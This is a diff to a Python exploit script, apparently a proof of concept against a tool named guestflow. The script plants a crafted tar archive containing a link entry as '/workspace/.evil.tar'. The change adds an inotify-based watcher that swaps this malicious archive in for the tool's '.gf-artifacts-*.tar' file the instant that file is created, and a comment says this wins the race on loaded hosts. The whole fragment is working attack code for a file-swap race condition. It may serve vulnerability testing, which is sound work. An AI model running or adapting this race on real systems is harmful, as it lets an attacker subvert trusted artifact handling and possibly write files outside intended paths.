@@ -360,13 +360,30 @@ with tarfile.open(fileobj=buf, mode='w', format=tarfile.PAX_FORMAT) as t:
     t.addfile(link)
 open('/workspace/.evil.tar', 'wb').write(buf.getvalue())
 swap = '''
-import glob, os, time
+import ctypes, glob, os, struct, time
+def swap(name):
+    os.rename('/workspace/.evil.tar', '/workspace/' + name)
+# Woken by inotify the moment the archive is created: a process spinning on glob loses its
+# turn to guestflow's tar on a loaded host, one that sleeps in read() gets it at once.
+libc = ctypes.CDLL(None, use_errno=True)
+fd = libc.inotify_init()
+if fd >= 0 and libc.inotify_add_watch(fd, b'/workspace', 0x100) >= 0:  # IN_CREATE
+    open('/workspace/.swapper-ready', 'w').close()
+    while True:
+        buf, at = os.read(fd, 65536), 0
+        while at < len(buf):
+            _, _, _, n = struct.unpack_from('iIII', buf, at)
+            name = buf[at + 16:at + 16 + n].rstrip(b'\\0').decode()
+            at += 16 + n
+            if name.startswith('.gf-artifacts-') and name.endswith('.tar'):
+                swap(name)
+                raise SystemExit
 open('/workspace/.swapper-ready', 'w').close()
 end = time.time() + 60
 while time.time() < end:
     hits = glob.glob('/workspace/.gf-artifacts-*.tar')
     if hits:
-        os.rename('/workspace/.evil.tar', hits[0])
+        swap(os.path.basename(hits[0]))
         break
 '''
 subprocess.Popen([sys.executable, '-c', swap], stdin=subprocess.DEVNULL,
